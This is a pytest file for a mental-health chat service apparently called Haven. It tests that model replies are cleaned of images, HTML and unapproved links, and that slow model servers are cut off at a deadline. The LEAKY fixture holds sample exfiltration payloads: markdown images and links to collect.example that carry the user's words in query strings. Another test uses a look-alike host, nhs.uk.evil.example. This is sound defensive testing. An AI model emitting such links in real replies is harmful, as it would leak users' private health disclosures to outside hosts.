"""A model's reply cannot send a person's words out, and cannot keep them waiting.

- Images, HTML and links to hosts Haven did not give the model are removed before a reply is streamed,
  shown or saved (Streamlit's Markdown would load ``![x](http://elsewhere/?q=...)`` by itself).
- ``HAVEN_LLM_TIMEOUT`` bounds the whole reply, not only each read: a server that sends one byte at a time
  is cut off, and the guide answers with a notice. (The test checks the outcome, never the clock.)
"""

from __future__ import annotations

import pytest
from fake_llm_server import FakeModelServer, Script
from langchain_core.language_models.fake_chat_models import GenericFakeChatModel
from langchain_core.messages import AIMessage

LEAKY = (
    "Slow breathing can help [1]. ![chart](http://collect.example/pixel.png?q=racing+heart) "
    '<img src="http://collect.example/i.png"> <b>Try it</b> now. '
    "More at [this page](http://collect.example/?q=my+heart) or http://collect.example/x?q=2 .\n"
    "[1]: http://collect.example/ref.png\n"
    "What do you notice?"
)


@pytest.fixture
def model_service(searcher, library, db, understander, monkeypatch):
    """A chat service whose engine is 'openai:fake', answered by the model the test puts in ``box``."""
    from haven.chat.service import ChatService
    from haven.config import get_settings

    monkeypatch.setenv("HAVEN_LLM", "openai:fake")
    get_settings.cache_clear()
    box: dict = {}
    service = ChatService(searcher, library, db, understander=understander, model_factory=lambda *a: box["model"])
    service.box = box
    return service


def test_images_html_and_unknown_links_never_reach_the_page_or_the_database(model_service):
    model_service.box["model"] = GenericFakeChatModel(messages=iter([AIMessage(LEAKY)]))
    items = list(model_service.respond_stream("me", "My heart is racing and I can't calm down"))
    reply = items[-1]
    streamed = "".join(i for i in items[:-1] if isinstance(i, str))
    saved = model_service.turns("me", reply.conversation_id)[-1].text
    assert reply.engine == "openai:fake", reply.notice
    for text in (streamed, reply.text, saved):
        assert "collect.example" not in text and "![" not in text and "<img" not in text and "<b>" not in text
        assert "Slow breathing can help [1]." in text and "Try it now." in text and "this page" in text
        assert text.rstrip().endswith("What do you notice?")


def test_links_to_the_passages_sources_and_phone_numbers_stay():
    from haven.chat.sanitise import clean_markdown

    text = "See [the NHS page](https://www.nhs.uk/mental-health/) or call [988](tel:988). [x](https://nhs.uk.evil.example/)"
    cleaned = clean_markdown(text, {"nhs.uk"})
    assert "[the NHS page](https://www.nhs.uk/mental-health/)" in cleaned and "[988](tel:988)" in cleaned
    assert "evil.example" not in cleaned and cleaned.endswith(" x")


@pytest.fixture
def server():
    with FakeModelServer() as srv:
        yield srv


@pytest.mark.parametrize("provider", ["openai", "ollama"])
def test_a_server_that_trickles_bytes_is_cut_off_at_the_reply_deadline(service, server, provider, monkeypatch):
    """Every read gets a byte well within the per-read timeout; only a deadline for the whole reply ends it."""
    from haven.config import get_settings

    monkeypatch.setenv("HAVEN_LLM", f"{provider}:tiny-model")
    monkeypatch.setenv("HAVEN_LLM_BASE_URL", f"{server.url}/v1" if provider == "openai" else server.url)
    monkeypatch.setenv("HAVEN_LLM_TIMEOUT", "1")
    get_settings.cache_clear()
    server.script = Script(chunks=["This reply ", "arrives ", "one byte ", "at a time. ", "Never whole."], trickle=0.02)
    reply = service.respond("me", "I feel low today")
    assert reply.engine == "guide", "the trickling model's reply was waited for until it ended"
    assert "too long" in reply.notice or "within" in reply.notice
    turns = service.turns("me", reply.conversation_id)
    assert [t.role for t in turns] == ["user", "assistant"] and turns[0].text == "I feel low today"
